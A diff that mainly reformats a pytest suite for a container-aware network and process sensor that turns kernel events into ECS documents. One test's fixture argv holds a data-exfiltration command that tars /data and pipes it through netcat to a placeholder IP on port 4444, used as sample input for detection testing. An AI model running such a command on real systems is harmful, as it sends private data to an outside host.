@@ -12,28 +12,37 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-
-from sensor.outputs import ecs
-from sensor.kernel import events as E
-from sensor.attribution.containers import Attributor
-from sensor.attribution.cgroups import CgroupResolver
-from sensor.telemetry.counters import FlowCounters, WindowCounters
-from sensor.attribution.docker_api import DockerClient
-from sensor.telemetry.pipeline import Pipeline
-from sensor.kernel.source import ReplaySource
-
 from _records import (
-    NS, cgroup_rec, connect_rec, dns_query, exec_args_rec, exec_rec, exit_rec, sample_rec,
-    tls_client_hello, to_wall,
+    NS,
+    cgroup_rec,
+    connect_rec,
+    dns_query,
+    exec_args_rec,
+    exec_rec,
+    exit_rec,
+    sample_rec,
+    tls_client_hello,
+    to_wall,
 )
 
-A = "a0" * 32          # a running docker container (cgroupfs driver)
-B = "b1" * 32          # a container started while the sensor runs (systemd driver)
-PID = 5_000_123        # above PID_MAX_LIMIT: never a real process on this host
+from sensor.attribution.cgroups import CgroupResolver
+from sensor.attribution.containers import Attributor
+from sensor.attribution.docker_api import DockerClient
+from sensor.kernel import events as E
+from sensor.kernel.source import ReplaySource
+from sensor.outputs import ecs
+from sensor.telemetry.counters import FlowCounters, WindowCounters
+from sensor.telemetry.pipeline import Pipeline
+
+A = "a0" * 32  # a running docker container (cgroupfs driver)
+B = "b1" * 32  # a container started while the sensor runs (systemd driver)
+PID = 5_000_123  # above PID_MAX_LIMIT: never a real process on this host
 PID2 = 5_000_456
 RNG = random.Random(1)
-TEXT = (b"The quick brown fox jumps over the lazy dog while the committee reviews "
-        b"the quarterly report about database backups and their retention policy. ")
+TEXT = (
+    b"The quick brown fox jumps over the lazy dog while the committee reviews "
+    b"the quarterly report about database backups and their retention policy. "
+)
 
 ISO_Z = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$")
 
@@ -44,9 +53,9 @@ class World:
     docs: list[dict[str, Any]]
     resolver: CgroupResolver
     attributor: Attributor
-    cg: int          # cgroup id of container A
-    cg_sub: int      # a sub-cgroup inside container A
-    host_cg: int     # a host service cgroup
+    cg: int  # cgroup id of container A
+    cg_sub: int  # a sub-cgroup inside container A
+    host_cg: int  # a host service cgroup
 
     def by_action(self, action: str) -> list[dict[str, Any]]:
         return [d for d in self.docs if d["event"]["action"] == action]
@@ -72,8 +81,13 @@ def make_world(tmp_path: Path, docker_sock: str, events: bool = True) -> World:
 
 @pytest.fixture
 def world(tmp_path: Path, fake_docker) -> World:
-    fake_docker.add(A, "exfil-test", "alpine:3.20", "sha256:" + "a" * 64,
-                    {"io.kubernetes.pod.name": "db-0", "io.kubernetes.pod.namespace": "data"})
+    fake_docker.add(
+        A,
+        "exfil-test",
+        "alpine:3.20",
+        "sha256:" + "a" * 64,
+        {"io.kubernetes.pod.name": "db-0", "io.kubernetes.pod.namespace": "data"},
+    )
     fake_docker.add(B, "late-starter", "busybox:1.36", "sha256:" + "b" * 64)
     return make_world(tmp_path, fake_docker.socket_path)
 
@@ -85,8 +99,17 @@ def replay(w: World, records: list[bytes], windows: list[list[FlowCounters]] = (
     return src
 
 
-def flow(cg: int, daddr: str, dport: int, proto: int, nbytes: int, payload: int, packets: int = 10,
-         connects: int = 1, samples: int = 0) -> FlowCounters:
+def flow(
+    cg: int,
+    daddr: str,
+    dport: int,
+    proto: int,
+    nbytes: int,
+    payload: int,
+    packets: int = 10,
+    connects: int = 1,
+    samples: int = 0,
+) -> FlowCounters:
     return FlowCounters(cg, daddr, dport, proto, nbytes, packets, payload, connects, 1, 2, samples)
 
 
@@ -129,8 +152,19 @@ def test_exec_event_gives_one_process_start_document(world: World) -> None:
     me = os.getpid()  # args come from /proc/<pid>/cmdline (the default procfs mode)
     with open(f"/proc/{me}/cmdline", "rb") as f:
         cmdline = [a.decode() for a in f.read().rstrip(b"\0").split(b"\0")]
-    replay(world, [exec_rec(pid=me, cgroup_id=world.cg, ktime_ns=2 * NS, comm=b"python3",
-                            filename=b"/usr/bin/python3.11", ppid=4_999_999)])
+    replay(
+        world,
+        [
+            exec_rec(
+                pid=me,
+                cgroup_id=world.cg,
+                ktime_ns=2 * NS,
+                comm=b"python3",
+                filename=b"/usr/bin/python3.11",
+                ppid=4_999_999,
+            )
+        ],
+    )
     check_all(world)
     assert len(world.docs) == 1
     d = world.docs[0]
@@ -158,10 +192,13 @@ def test_exec_event_gives_one_process_start_document(world: World) -> None:
 
 def test_exec_args_from_tracepoint_become_process_args(world: World) -> None:
     argv = [b"sh", b"-c", b"tar cz /data | nc 203.0.113.9 4444"]
-    replay(world, [
-        exec_args_rec(pid=PID, cgroup_id=world.cg, args=argv, ktime_ns=NS),
-        exec_rec(pid=PID, cgroup_id=world.cg, ktime_ns=NS + 1000, comm=b"sh", filename=b"/bin/sh"),
-    ])
+    replay(
+        world,
+        [
+            exec_args_rec(pid=PID, cgroup_id=world.cg, args=argv, ktime_ns=NS),
+            exec_rec(pid=PID, cgroup_id=world.cg, ktime_ns=NS + 1000, comm=b"sh", filename=b"/bin/sh"),
+        ],
+    )
     check_all(world)
     (d,) = world.by_action("exec")
     assert d["sluice"]["process"]["args_source"] == "tracepoint"
@@ -181,10 +218,13 @@ def test_exec_without_args_anywhere(world: World) -> None:
 
 
 def test_exit_document_has_duration(world: World) -> None:
-    replay(world, [
-        exec_rec(pid=PID, cgroup_id=world.cg, ktime_ns=1 * NS, comm=b"sleep", filename=b"/bin/sleep"),
-        exit_rec(pid=PID, cgroup_id=world.cg, ktime_ns=4 * NS + 250_000_000, comm=b"sleep"),
-    ])
+    replay(
+        world,
+        [
+            exec_rec(pid=PID, cgroup_id=world.cg, ktime_ns=1 * NS, comm=b"sleep", filename=b"/bin/sleep"),
+            exit_rec(pid=PID, cgroup_id=world.cg, ktime_ns=4 * NS + 250_000_000, comm=b"sleep"),
+        ],
+    )
     check_all(world)
     (d,) = world.by_action("exit")
     assert d["event"]["type"] == ["end"]
@@ -203,11 +243,14 @@ def test_proc_self_exe_is_resolved(world: World) -> None:
 
 
 def test_flow_of_an_exited_process_keeps_its_process_fields(world: World) -> None:
-    replay(world, [
-        exec_rec(pid=PID, cgroup_id=world.cg, ktime_ns=NS, comm=b"curl", filename=b"/usr/bin/curl"),
-        connect_rec(pid=PID, cgroup_id=world.cg, daddr="198.51.100.8", dport=443, comm=b"curl", ktime_ns=NS),
-        exit_rec(pid=PID, cgroup_id=world.cg, ktime_ns=2 * NS, comm=b"curl"),
-    ])
+    replay(
+        world,
+        [
+            exec_rec(pid=PID, cgroup_id=world.cg, ktime_ns=NS, comm=b"curl", filename=b"/usr/bin/curl"),
+            connect_rec(pid=PID, cgroup_id=world.cg, daddr="198.51.100.8", dport=443, comm=b"curl", ktime_ns=NS),
+            exit_rec(pid=PID, cgroup_id=world.cg, ktime_ns=2 * NS, comm=b"curl"),
+        ],
+    )
     world.pipe.close_window([flow(world.cg, "198.51.100.8", 443, 6, 5000, 4000)], to_wall(0), to_wall(3 * NS))
     check_all(world)
     (d,) = world.by_action("flow_summary")
@@ -219,12 +262,32 @@ def test_flow_of_an_exited_process_keeps_its_process_fields(world: World) -> Non
 
 
 def test_connect_documents(world: World) -> None:
-    replay(world, [
-        connect_rec(pid=PID, cgroup_id=world.cg, daddr="198.51.100.7", dport=443, protocol=6,
-                    comm=b"curl", cookie=77, ktime_ns=NS),
-        connect_rec(pid=PID, cgroup_id=world.cg, daddr="2001:db8::53", dport=53, protocol=17,
-                    comm=b"dig", op=E.CONNECT_OP_SENDMSG, family=10, ktime_ns=NS),
-    ])
+    replay(
+        world,
+        [
+            connect_rec(
+                pid=PID,
+                cgroup_id=world.cg,
+                daddr="198.51.100.7",
+                dport=443,
+                protocol=6,
+                comm=b"curl",
+                cookie=77,
+                ktime_ns=NS,
+            ),
+            connect_rec(
+                pid=PID,
+                cgroup_id=world.cg,
+                daddr="2001:db8::53",
+                dport=53,
+                protocol=17,
+                comm=b"dig",
+                op=E.CONNECT_OP_SENDMSG,
+                family=10,
+                ktime_ns=NS,
+            ),
+        ],
+    )
     check_all(world)
     tcp, udp = world.docs
     assert tcp["event"]["action"] == "connection_attempted"
@@ -241,17 +304,14 @@ def _tls_flow_records(w: World) -> list[bytes]:
     recs = [
         exec_rec(pid=PID, cgroup_id=w.cg, ktime_ns=NS, comm=b"curl", filename=b"/usr/bin/curl"),
         connect_rec(pid=PID, cgroup_id=w.cg, daddr="198.51.100.7", dport=443, comm=b"curl", ktime_ns=NS),
-        sample_rec(w.cg, "198.51.100.7", 443, tls_client_hello(), flags=E.SAMPLE_F_SOCK_START,
-                   sock_pkt_index=0),
+        sample_rec(w.cg, "198.51.100.7", 443, tls_client_hello(), flags=E.SAMPLE_F_SOCK_START, sock_pkt_index=0),
     ]
-    recs += [sample_rec(w.cg, "198.51.100.7", 443, RNG.randbytes(128), sock_pkt_index=64 * i)
-             for i in range(1, 9)]
+    recs += [sample_rec(w.cg, "198.51.100.7", 443, RNG.randbytes(128), sock_pkt_index=64 * i) for i in range(1, 9)]
     return recs
 
 
 def test_flow_summary_joins_kernel_counters_samples_and_process(world: World) -> None:
-    fc = flow(world.cg, "198.51.100.7", 443, 6, nbytes=1_234_567, payload=1_200_000, packets=900,
-              connects=1, samples=9)
+    fc = flow(world.cg, "198.51.100.7", 443, 6, nbytes=1_234_567, payload=1_200_000, packets=900, connects=1, samples=9)
     src = replay(world, _tls_flow_records(world), [[fc]])
     summaries, per = world.pipe.close_window(src.drain_flows(), to_wall(0), to_wall(10 * NS))
     check_all(world)
@@ -286,8 +346,7 @@ def test_protocol_hint_only_from_the_first_packet(world: World) -> None:
         sample_rec(world.cg, "192.0.2.2", 8080, get, flags=E.SAMPLE_F_SOCK_START, sock_pkt_index=3),
         sample_rec(world.cg, "192.0.2.3", 8080, get, flags=0, sock_pkt_index=0),
         # a TLS-looking later packet does not override the first hint
-        sample_rec(world.cg, "192.0.2.1", 8080, tls_client_hello(), flags=E.SAMPLE_F_SOCK_START,
-                   sock_pkt_index=1),
+        sample_rec(world.cg, "192.0.2.1", 8080, tls_client_hello(), flags=E.SAMPLE_F_SOCK_START, sock_pkt_index=1),
     ]
     replay(world, recs)
     world.pipe.close_window([], to_wall(0), to_wall(NS))
@@ -297,8 +356,10 @@ def test_protocol_hint_only_from_the_first_packet(world: World) -> None:
 
 
 def test_dns_hint_from_any_sample_to_port_53(world: World) -> None:
-    replay(world, [sample_rec(world.cg, "10.0.0.53", 53, dns_query("x.example.net"), protocol=17,
-                              flags=0, sock_pkt_index=40)])
+    replay(
+        world,
+        [sample_rec(world.cg, "10.0.0.53", 53, dns_query("x.example.net"), protocol=17, flags=0, sock_pkt_index=40)],
+    )
     world.pipe.close_window([flow(world.cg, "10.0.0.53", 53, 17, 100, 72)], to_wall(0), to_wall(NS))
     check_all(world)
     (d,) = world.by_action("flow_summary")
@@ -405,13 +466,16 @@ def test_execs_alone_make_a_container_summary(world: World) -> None:
 def test_container_start_and_stop_with_lifetime(world: World) -> None:
     scope = f"/system.slice/docker-{B}.scope".encode()
     cgid = 9_100_001
-    replay(world, [
-        cgroup_rec(E.CGROUP_MKDIR, cgid, scope, ktime_ns=1 * NS),
-        cgroup_rec(E.CGROUP_MKDIR, cgid + 1, scope + b"/init.scope", ktime_ns=1 * NS + 5),  # sub-cgroup
-        cgroup_rec(E.CGROUP_MKDIR, cgid + 2, b"/system.slice/foo.service", ktime_ns=1 * NS + 6),
-        cgroup_rec(E.CGROUP_RMDIR, cgid + 1, scope + b"/init.scope", ktime_ns=6 * NS),
-        cgroup_rec(E.CGROUP_RMDIR, cgid, scope, ktime_ns=6 * NS + 500_000_000),
-    ])
+    replay(
+        world,
+        [
+            cgroup_rec(E.CGROUP_MKDIR, cgid, scope, ktime_ns=1 * NS),
+            cgroup_rec(E.CGROUP_MKDIR, cgid + 1, scope + b"/init.scope", ktime_ns=1 * NS + 5),  # sub-cgroup
+            cgroup_rec(E.CGROUP_MKDIR, cgid + 2, b"/system.slice/foo.service", ktime_ns=1 * NS + 6),
+            cgroup_rec(E.CGROUP_RMDIR, cgid + 1, scope + b"/init.scope", ktime_ns=6 * NS),
+            cgroup_rec(E.CGROUP_RMDIR, cgid, scope, ktime_ns=6 * NS + 500_000_000),
+        ],
+    )
     check_all(world)
     (start,) = world.by_action("container_start")
     (stop,) = world.by_action("container_stop")
@@ -437,14 +501,15 @@ def test_container_start_and_stop_with_lifetime(world: World) -> None:
 def test_stopped_container_bytes_of_its_last_window_stay_attributed(world: World, fake_docker) -> None:
     scope = f"/system.slice/docker-{B}.scope"
     cgid = 9_200_001
-    replay(world, [
-        cgroup_rec(E.CGROUP_MKDIR, cgid, scope.encode(), ktime_ns=NS),
-        sample_rec(cgid, "203.0.113.66", 443, tls_client_hello(), flags=E.SAMPLE_F_SOCK_START,
-                   sock_pkt_index=0),
-        cgroup_rec(E.CGROUP_RMDIR, cgid, scope.encode(), ktime_ns=2 * NS),
-    ])
-    _, per = world.pipe.close_window([flow(cgid, "203.0.113.66", 443, 6, 4096, 3000)],
-                                     to_wall(0), to_wall(3 * NS))
+    replay(
+        world,
+        [
+            cgroup_rec(E.CGROUP_MKDIR, cgid, scope.encode(), ktime_ns=NS),
+            sample_rec(cgid, "203.0.113.66", 443, tls_client_hello(), flags=E.SAMPLE_F_SOCK_START, sock_pkt_index=0),
+            cgroup_rec(E.CGROUP_RMDIR, cgid, scope.encode(), ktime_ns=2 * NS),
+        ],
+    )
+    _, per = world.pipe.close_window([flow(cgid, "203.0.113.66", 443, 6, 4096, 3000)], to_wall(0), to_wall(3 * NS))
     check_all(world)
     (d,) = world.by_action("flow_summary")
     assert d["container"]["id"] == B and d["container"]["name"] == "late-starter"
@@ -459,11 +524,14 @@ def test_stopped_container_bytes_of_its_last_window_stay_attributed(world: World
 def test_sub_cgroup_removal_keeps_the_running_container(world: World, fake_docker) -> None:
     scope = f"/system.slice/docker-{B}.scope"
     cgid = 9_300_001
-    replay(world, [
-        cgroup_rec(E.CGROUP_MKDIR, cgid, scope.encode(), ktime_ns=NS),
-        cgroup_rec(E.CGROUP_MKDIR, cgid + 1, f"{scope}/payload".encode(), ktime_ns=NS + 1),
-        cgroup_rec(E.CGROUP_RMDIR, cgid + 1, f"{scope}/payload".encode(), ktime_ns=2 * NS),
-    ])
+    replay(
+        world,
+        [
+            cgroup_rec(E.CGROUP_MKDIR, cgid, scope.encode(), ktime_ns=NS),
+            cgroup_rec(E.CGROUP_MKDIR, cgid + 1, f"{scope}/payload".encode(), ktime_ns=NS + 1),
+            cgroup_rec(E.CGROUP_RMDIR, cgid + 1, f"{scope}/payload".encode(), ktime_ns=2 * NS),
+        ],
+    )
     world.pipe.close_window([], to_wall(0), to_wall(3 * NS))
     assert B in world.pipe.containers and world.pipe.containers[B].cgroup_id == cgid
     assert cgid + 1 not in dict(world.resolver.items())
@@ -498,8 +566,7 @@ def test_events_false_emits_no_telemetry(tmp_path: Path, fake_docker) -> None:
         cgroup_rec(E.CGROUP_RMDIR, 777, f"/system.slice/docker-{B}.scope".encode(), ktime_ns=2 * NS),
     ]
     replay(w, recs)
-    summaries, per = w.pipe.close_window([flow(w.cg, "198.51.100.7", 443, 6, 1000, 900)],
-                                         to_wall(0), to_wall(NS))
+    summaries, per = w.pipe.close_window([flow(w.cg, "198.51.100.7", 443, 6, 1000, 900)], to_wall(0), to_wall(NS))
     assert w.docs == []
     assert w.pipe.counts["documents"] == 0
     # counting still happens
@@ -512,8 +579,9 @@ def test_events_false_emits_no_telemetry(tmp_path: Path, fake_docker) -> None:
 def test_decode_errors_are_counted(world: World) -> None:
     bad_type = E.encode(E.EventHeader(type=42)) + b"\0" * 64
     short = exec_rec(pid=PID, cgroup_id=world.cg)[:100]
-    replay(world, [b"\x01\x00", bad_type, short,
-                   exec_rec(pid=PID, cgroup_id=world.cg, comm=b"ok", filename=b"/bin/ok")])
+    replay(
+        world, [b"\x01\x00", bad_type, short, exec_rec(pid=PID, cgroup_id=world.cg, comm=b"ok", filename=b"/bin/ok")]
+    )
     assert world.pipe.counts["decode_errors"] == 3
     assert world.pipe.counts["events"] == 4
     assert world.pipe.counts["exec"] == 1
